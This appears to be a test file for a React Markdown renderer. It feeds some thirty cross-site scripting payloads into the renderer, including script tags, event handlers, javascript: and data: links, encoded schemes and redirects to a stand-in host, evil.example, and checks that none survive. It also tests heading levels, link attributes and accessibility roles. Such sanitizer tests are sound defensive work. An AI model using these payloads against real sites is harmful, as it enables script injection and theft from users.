import { cleanup, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, test } from "vitest";
import { Markdown } from "./markdown.tsx";
import { parseMarkdown } from "./parse.ts";

afterEach(cleanup);
const show = (text: string) => render(<Markdown blocks={parseMarkdown(text)} />).container;

// The usual ways of getting a script, a style, a frame or a request past a Markdown renderer.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "a <img src=x onerror=alert(1)> b",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>*{display:none}</style>",
  "<base href='//evil.example'>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input></form>",
  "[x](javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](JAVASCRIPT&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java%0ascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  '[x](https://ok.example"onmouseover="alert(1))',
  '[x](https://ok.example "title\\" onclick=\\"alert(1)")',
  "[x][1]\n\n[1]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  '![x](x"onerror="alert(1))',
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "<javascript:alert(1)>",
  '<http://a.example/"onclick=alert(1)>',
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <details open ontoggle=alert(1)>",
  "# <script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
];

describe("hostile text", () => {
  test.each(HOSTILE)("%s", (text) => {
    const container = show(text);
    expect(
      container.querySelectorAll(
        "script, style, iframe, svg, base, meta, form, input, object, embed, details",
      ),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^srcdoc$/);
        if (name === "href") expect(value).toMatch(/^(?:https?:|mailto:|#)/);
        if (name === "src") expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
      }
    }
  });
});

describe("shape", () => {
  test("the highest heading becomes the one that the page has room for, and no level is skipped", () => {
    const container = show("## Two\n\n#### Four\n\n## Two again");
    expect([...container.querySelectorAll("h1,h2,h3,h4,h5,h6")].map((heading) => heading.tagName)).toEqual([
      "H3",
      "H4",
      "H3",
    ]);
  });

  test("links say that we do not vouch for them", () => {
    show("[there](https://example.org)");
    expect(screen.getByRole("link", { name: "there" }).getAttribute("rel")).toContain("nofollow");
  });

  test("lists, tables and code are what they are to assistive technology", () => {
    show("- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\nls\n```");
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
    expect(screen.getAllByRole("columnheader")).toHaveLength(2);
    expect(screen.getByRole("region", { name: "sh code" }).textContent).toBe("ls");
  });

  test("an empty column heading is no heading", () => {
    show("| a | |\n|---|---|\n| 1 | 2 |");
    expect(screen.getAllByRole("columnheader")).toHaveLength(1);
  });
});
